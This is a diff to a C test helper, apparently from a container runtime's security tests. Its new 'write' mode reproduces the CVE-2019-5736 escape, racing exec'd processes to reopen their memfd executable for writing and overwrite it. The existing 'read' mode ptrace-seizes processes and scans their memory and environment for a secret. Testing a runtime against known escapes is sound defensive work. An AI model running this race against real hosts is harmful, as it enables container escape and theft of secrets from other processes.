@@ -1,20 +1,31 @@
-/* A container process with CAP_SYS_PTRACE racing every process that
- * appears in its PID namespace (test_exec_ptrace.py): the exec'd commands
- * of ExecSync before their execve.
+/* A container process racing every process that appears in its PID
+ * namespace (test_exec_sync.py): the exec'd commands of ExecSync before
+ * their execve, and what they run.
  *
- * It follows the namespace's last pid (/proc/sys/kernel/ns_last_pid) and,
- * for each new pid at once: reads /proc/PID/exe, environ and cmdline,
- * seizes it (PTRACE_SEIZE, then interrupts and detaches it), and reads every
- * readable region of /proc/PID/mem, looking for the secret. It appends one
- * line per pid to DIR/log:
- *   probe PID exe=EXE environ=N mem=N seized=0|1 secret=WHERE
- * (WHERE "-" when not found). DIR/ready when it runs; it stops when
- * DIR/stop appears.
- * argv: DIR SECRET-REVERSED (reversed, so that no process holds it but
- * those that had it already). Built static against musl. */
+ * It follows the namespace's last pid (/proc/sys/kernel/ns_last_pid) and
+ * handles each new pid at once, in one of two modes:
+ *
+ *  - `read SECRET-REVERSED` (a container with CAP_SYS_PTRACE): reads
+ *    /proc/PID/exe, environ and cmdline, seizes it (PTRACE_SEIZE, then
+ *    interrupts and detaches it) and reads every readable region of
+ *    /proc/PID/mem, looking for the secret (given reversed, so that no
+ *    process holds it but those that had it already). One line per pid:
+ *      probe PID exe=EXE environ=N mem=N seized=0|1 secret=WHERE
+ *    (WHERE "-" when not found);
+ *  - `write`: the CVE-2019-5736 sequence on every process whose
+ *    executable is a memfd: /proc/PID/exe opened with O_PATH while it runs
+ *    (retried while the kernel refuses), then, once the process is gone,
+ *    reopened for writing through /proc/self/fd/N (retried while ETXTBSY)
+ *    and written. One line per
+ *    such pid: opened EXE open=ERRNO-NAME write=ERRNO-NAME ("ok" when it
+ *    worked).
+ *
+ * It writes DIR/ready when it runs, appends to DIR/log, and stops when
+ * DIR/stop appears. Built static against musl. */
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -122,16 +133,77 @@ static void probe(FILE *log, int pid)
     fflush(log);
 }
 
+static const char *errname(int ok, int e)
+{
+    return ok             ? "ok"
+           : e == EPERM   ? "EPERM"
+           : e == EROFS   ? "EROFS"
+           : e == ETXTBSY ? "ETXTBSY"
+                          : strerror(e);
+}
+
+static void attack(FILE *log, int pid)
+{
+    char path[64], exe[256];
+    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+    int fd = -1;
+    for (;;) {
+        /* the pid stays until its parent reaps it; exe goes at its exit */
+        if (kill(pid, 0) < 0)
+            return;
+        fd = open(path, O_PATH | O_CLOEXEC);
+        if (fd < 0)
+            continue;
+        ssize_t n = readlink(path, exe, sizeof(exe) - 1);
+        exe[n > 0 ? n : 0] = '\0';
+        if (strncmp(exe, "/memfd:", 7) == 0)
+            break;
+        close(fd); /* not (yet) a memfd: the command before it runs one */
+        fd = -1;
+    }
+    while (kill(pid, 0) == 0) {
+        char st[64], buf2[512];
+        snprintf(st, sizeof(st), "/proc/%d/stat", pid);
+        ssize_t n = read_all(st, buf2, sizeof(buf2) - 1);
+        buf2[n > 0 ? n : 0] = '\0';
+        char *r = strrchr(buf2, ')');
+        if (n <= 0 || (r && r[2] == 'Z'))
+            break; /* ended: a zombie runs nothing */
+    }
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+    /* busy while its last user lets go of it: retried, as the exploit does */
+    int w, tries = 0;
+    while ((w = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && ++tries < 100000)
+        ;
+    int oe = errno, we = 0;
+    ssize_t wn = -1;
+    if (w >= 0) {
+        wn = write(w, "PWNED!", 6);
+        we = errno;
+        close(w);
+    }
+    for (char *c = exe; *c; c++)
+        if (*c == ' ')
+            *c = '_';
+    fprintf(log, "opened %s open=%s write=%s\n", exe, errname(w >= 0, oe),
+            w < 0 ? "-" : errname(wn == 6, we));
+    fflush(log);
+    close(fd);
+}
+
 int main(int argc, char **argv)
 {
-    if (argc != 3)
+    int write_mode = argc == 3 && strcmp(argv[2], "write") == 0;
+    if (!write_mode && !(argc == 4 && strcmp(argv[2], "read") == 0))
         return 2;
-    secret_len = strlen(argv[2]);
-    if (secret_len == 0 || secret_len >= sizeof(secret))
-        return 2;
-    for (size_t i = 0; i < secret_len; i++)
-        secret[i] = argv[2][secret_len - 1 - i];
-    memset(argv[2], 'x', secret_len);
+    if (!write_mode) {
+        secret_len = strlen(argv[3]);
+        if (secret_len == 0 || secret_len >= sizeof(secret))
+            return 2;
+        for (size_t i = 0; i < secret_len; i++)
+            secret[i] = argv[3][secret_len - 1 - i];
+        memset(argv[3], 'x', secret_len);
+    }
     char path[512];
     snprintf(path, sizeof(path), "%s/log", argv[1]);
     FILE *log = fopen(path, "a");
@@ -149,8 +221,12 @@ int main(int argc, char **argv)
             v[n] = '\0';
             int now = atoi(v);
             for (int p = last + 1; p <= now; p++)
-                if (p != getpid())
-                    probe(log, p);
+                if (p != getpid()) {
+                    if (write_mode)
+                        attack(log, p);
+                    else
+                        probe(log, p);
+                }
             if (now > last)
                 last = now;
         }
